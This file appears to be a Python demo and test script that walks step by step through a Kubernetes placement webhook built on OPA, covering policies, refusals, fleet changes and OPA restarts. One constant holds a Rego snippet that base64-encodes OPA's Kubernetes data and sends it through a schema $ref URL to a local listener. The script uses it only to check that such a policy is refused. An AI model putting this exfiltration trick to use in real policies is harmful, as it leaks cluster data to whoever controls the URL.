"""The seed's story in numbered steps.

"Certain apps must be deployed on clusters in EU zones with sufficient PCI compliance."

Each step states what it expects before it looks, and looks at what the API server and OPA hold.
"""

from __future__ import annotations

import socket
from contextlib import suppress
from functools import partial

from tools.demo.fleet import (
    CLUSTERS,
    FLEET,
    LEVEL,
    POLICIES,
    POLICY,
    PREFERENCES,
    SHOP,
    cluster,
    namespace,
    policy_map,
    replica_set,
)
from tools.demo.foresight import a_dangerous_edit_is_planned, a_workload_is_explained
from tools.demo.mistakes import a_cluster_is_misspelt
from tools.demo.narrator import Narrator
from tools.demo.staging import (
    an_edit_is_a_candidate,
    half_of_the_objects_try_it,
    the_edit_decides_in_the_shadow,
    the_edit_is_promoted,
)
from tools.demo.world import ADMITTED, Placement, World

_BOTH_EU = ("gce-europe-west1", "gce-europe-west2")
_ANYWHERE = tuple(sorted(CLUSTERS))
_EDITED = POLICY.read_text(encoding="utf-8").replace('"rebalance": true', '"rebalance": false')

_SENDING = """
leaked if {
	sent := base64url.encode(json.marshal(data.kubernetes))
	json.match_schema({}, {"$ref": sprintf("http://127.0.0.1:%d/?%s", [PORT, sent])})
}
"""

Placements = dict[str, Placement | None]


def tell(world: World, narrator: Narrator) -> None:
    """Tell the whole story once, on an empty stack. Raises Differs."""
    the_fleet_registers(world, narrator)
    before_any_policy(world, narrator)
    the_policy_is_stored(world, narrator)
    replica_sets_are_placed(world, narrator)
    one_that_fits_nowhere_is_refused(world, narrator)
    a_developer_moves_one_by_hand(world, narrator)
    a_cluster_loses_its_level(world, narrator)
    half_of_the_fleet_vanishes(world, narrator)
    an_edit_is_a_candidate(world, narrator, _EDITED)
    the_edit_decides_in_the_shadow(world, narrator)
    half_of_the_objects_try_it(world, narrator)
    the_edit_is_promoted(world, narrator)
    a_workload_is_explained(world, narrator)
    a_dangerous_edit_is_planned(world, narrator, _EDITED)
    a_cluster_is_misspelt(world, narrator, _EDITED)
    a_broken_policy_is_stored(world, narrator)
    a_policy_would_send_data_out(world, narrator)
    opa_is_killed(world, narrator)


def the_fleet_registers(world: World, narrator: Narrator) -> None:
    """Four clusters appear in the API server, and by themselves in OPA."""
    with narrator.step("A fleet of four clusters registers"):
        for name in (FLEET, SHOP):
            world.store(namespace(name))
        for name, (region, level) in CLUSTERS.items():
            world.store(cluster(name, region, level))
        narrator.see(
            "OPA's data against the API server's objects",
            "equal: 4 clusters and 0 replicasets",
            world.opa_equals_api_server,
        )


def before_any_policy(world: World, narrator: Narrator) -> None:
    """Without a policy the webhook stands open, as the design asks for."""
    with narrator.step("Before any policy exists, everything is admitted"):
        said = world.store(replica_set("nginx-early", eu=True))
        narrator.see("the answer to the create", ADMITTED, lambda: said)
        expected: Placements = {"nginx-early": None}
        narrator.see("its placement", expected, world.placements)
        narrator.see("if the webhook did not answer", "Ignore", world.failure_policy)


def the_policy_is_stored(world: World, narrator: Narrator) -> None:
    """The policy takes effect on what is there already, too."""
    with narrator.step("The policy is stored as a ConfigMap"):
        world.store(policy_map(POLICY.read_text(encoding="utf-8")))
        narrator.see("what its author reads on it", {"status": "ok"}, world.policy_status)
        expected: Placements = {"nginx-early": _BOTH_EU}
        narrator.see("the ReplicaSet that was there before", expected, world.placements)
        narrator.see("if the webhook did not answer now", "Fail", world.failure_policy)


def replica_sets_are_placed(world: World, narrator: Narrator) -> None:
    """What is created comes back with its placement."""
    with narrator.step("ReplicaSets are created and come back annotated"):
        for manifest in (
            replica_set("nginx-eu", eu=True, pci="2"),
            replica_set("nginx-pci", pci="3"),
            replica_set("nginx-anywhere"),
        ):
            name, said = manifest["metadata"]["name"], world.store(manifest)
            narrator.see(f"the answer to the create of {name}", ADMITTED, partial(str, said))
        expected: Placements = {
            "nginx-anywhere": _ANYWHERE,
            "nginx-early": _BOTH_EU,
            "nginx-eu": _BOTH_EU,
            "nginx-pci": ("gce-us-east1",),
        }
        narrator.see("where they are to run", expected, world.placements)


def one_that_fits_nowhere_is_refused(world: World, narrator: Narrator) -> None:
    """A refusal names what was asked for and why each cluster does not do."""
    with narrator.step("One that no cluster may run is refused, with the reason"):
        said = world.store(replica_set("nginx-nowhere", eu=True, pci="3"))
        narrator.quote(said)
        narrator.see(
            "the clusters that the refusal gives a reason for",
            list(_ANYWHERE),
            lambda: [name for name in _ANYWHERE if name in said],
        )
        narrator.see("it is stored", "no", lambda: _stored(world, "nginx-nowhere"))
        narrator.see(
            "the Events about it", ["PlacementDenied"], lambda: world.events("nginx-nowhere")
        )


def a_developer_moves_one_by_hand(world: World, narrator: Narrator) -> None:
    """What the policy decides is the policy's, and what was asked for is not forgotten."""
    with narrator.step("A developer writes a placement by hand: the policy's value stands"):
        before = world.placements()
        asia = '{"clusters":{"gce-asia-east1":{"weight":1}}}'
        narrator.quote(world.annotate("nginx-eu", PREFERENCES, asia))
        narrator.see("where they are to run", before, world.placements)
        noted: dict[str, str | None] = {PREFERENCES: asia}
        narrator.see("what is noted as asked for", noted, lambda: world.requested("nginx-eu"))
        world.annotate("nginx-eu", PREFERENCES, "{}")


def a_cluster_loses_its_level(world: World, narrator: Narrator) -> None:
    """What was there moves, and only what has to."""
    with narrator.step("A cluster loses its PCI level: exactly the affected ReplicaSets move"):
        before, versions = world.placements(), world.versions()
        world.label("gce-europe-west2", LEVEL, "1")
        narrator.see(
            "where they are to run",
            before | {"nginx-eu": ("gce-europe-west1",)},
            world.placements,
        )
        changed = world.written_since(versions)
        narrator.see("the ReplicaSets that were written to", ["nginx-eu"], lambda: changed)


def half_of_the_fleet_vanishes(world: World, narrator: Narrator) -> None:
    """A fleet that shrinks all at once is more often a mistake than an order."""
    with narrator.step("Half of the fleet vanishes: nothing moves, and the reason is told"):
        before, versions = world.placements(), world.versions()
        gone = ("gce-asia-east1", "gce-us-east1")
        world.forget(*gone)
        narrator.see(
            "the Event on one that would move",
            ["RemediationFleet"],
            lambda: world.events_on("nginx-anywhere"),
        )
        narrator.see("where they are to run", before, world.placements)
        back = [cluster(name, *CLUSTERS[name]) for name in gone]
        world.store({"apiVersion": "v1", "kind": "List", "items": back})
        narrator.see(
            "OPA's data against the API server's objects",
            "equal: 4 clusters and 4 replicasets",
            world.opa_equals_api_server,
        )
        nobody: list[str] = []
        narrator.see("who was written to", nobody, lambda: world.written_since(versions))


def a_broken_policy_is_stored(world: World, narrator: Narrator) -> None:
    """A mistake is told to who made it, and changes nothing else."""
    with narrator.step(
        "A broken policy is stored: its author reads why, the last good one decides"
    ):
        before = world.placements()
        world.store(policy_map(_EDITED + "\nannotations[oops := 1\n"))
        row = _EDITED.count("\n") + 2
        expected: object = ("error", f"{POLICIES}/placement/placement.rego", row)
        narrator.see(
            "what its author reads on it: status, file, row",
            expected,
            lambda: _mistake(world.policy_status()),
        )
        said = world.store(replica_set("nginx-late", eu=True))
        narrator.see("the answer to a create meanwhile", ADMITTED, lambda: said)
        narrator.see("where they are to run", before | {"nginx-late": _BOTH_EU}, world.placements)
        world.store(policy_map(_EDITED))
        narrator.see("after it is mended", {"status": "ok"}, world.policy_status)


def a_policy_would_send_data_out(world: World, narrator: Narrator) -> None:
    """Who may write a policy may place workloads, and gets nothing out of OPA."""
    with (
        narrator.step("A policy would send OPA's data out: it is refused, its author reads why"),
        socket.create_server(("127.0.0.1", 0)) as listener,
    ):
        listener.settimeout(0)
        sending = _SENDING.replace("PORT", str(listener.getsockname()[1]))
        world.store(policy_map(_EDITED + sending))
        row = _EDITED.count("\n") + 4
        expected: object = ("error", f"{POLICIES}/placement/placement.rego", row)
        narrator.see(
            "what its author reads on it: status, file, row",
            expected,
            lambda: _mistake(world.policy_status()),
        )
        narrator.quote(_message(world.policy_status()))
        said = world.store(replica_set("nginx-latest", eu=True))
        narrator.see("the answer to a create meanwhile", ADMITTED, lambda: said)
        narrator.see("who was called with the data", "nobody", lambda: _called(listener))
        world.store(policy_map(_EDITED))
        narrator.see("after it is mended", {"status": "ok"}, world.policy_status)


def opa_is_killed(world: World, narrator: Narrator) -> None:
    """Without OPA, creates are decided as OPA decided on such as they are; all others are refused.

    Nothing has to be done when it is back.
    """
    with narrator.step(
        "OPA is killed: what it has decided before is decided alike, all else is refused"
    ):
        narrator.see("whether OPA's answers may be reused", "yes", world.may_reuse_answers)
        said = world.store(replica_set("nginx-first", eu=True))
        narrator.see("the answer to a create for the EU, by OPA", ADMITTED, partial(str, said))
        world.stack.opa.kill()
        said = world.store(replica_set("nginx-unlucky"))
        narrator.quote(said)
        narrator.see(
            "the answer to a create for anywhere, without OPA", "refused", lambda: _refused(said)
        )
        narrator.see("it is stored", "no", lambda: _stored(world, "nginx-unlucky"))
        narrator.see(
            "the answer to another create for the EU, without OPA",
            ADMITTED,
            lambda: world.store(replica_set("nginx-second", eu=True)),
        )
        narrator.see("where it is to run", _BOTH_EU, lambda: world.placements().get("nginx-second"))
    with narrator.step("OPA starts again, empty, and comes back whole"):
        before = world.placements()
        world.stack.opa.start()
        narrator.see(
            "OPA's data against the API server's objects",
            "equal: 4 clusters and 8 replicasets",
            world.opa_equals_api_server,
        )
        narrator.see("the policies that it holds", 1, world.opa_policies)
        narrator.see(
            "the answer to the create, sent again",
            ADMITTED,
            lambda: world.store(replica_set("nginx-unlucky")),
        )
        narrator.see(
            "where they are to run", before | {"nginx-unlucky": _ANYWHERE}, world.placements
        )


def _stored(world: World, name: str) -> str:
    return "yes" if name in world.placements() else "no"


def _refused(said: str) -> str:
    return "refused" if "denied the request" in said else said


def _mistake(status: object) -> object:
    """Return status, file and row of the first cause in a policy's status."""
    match status:
        case {"status": said, "error": {"errors": [{"location": {"file": file, "row": row}}, *_]}}:
            return said, file, row
    return status


def _message(status: object) -> str:
    match status:
        case {"error": {"message": str(message)}}:
            return message
    return str(status)


def _called(listener: socket.socket) -> str:
    """Return who came to a listener that waits for nobody."""
    with suppress(BlockingIOError):
        connection, (host, *_) = listener.accept()
        connection.close()
        return str(host)
    return "nobody"
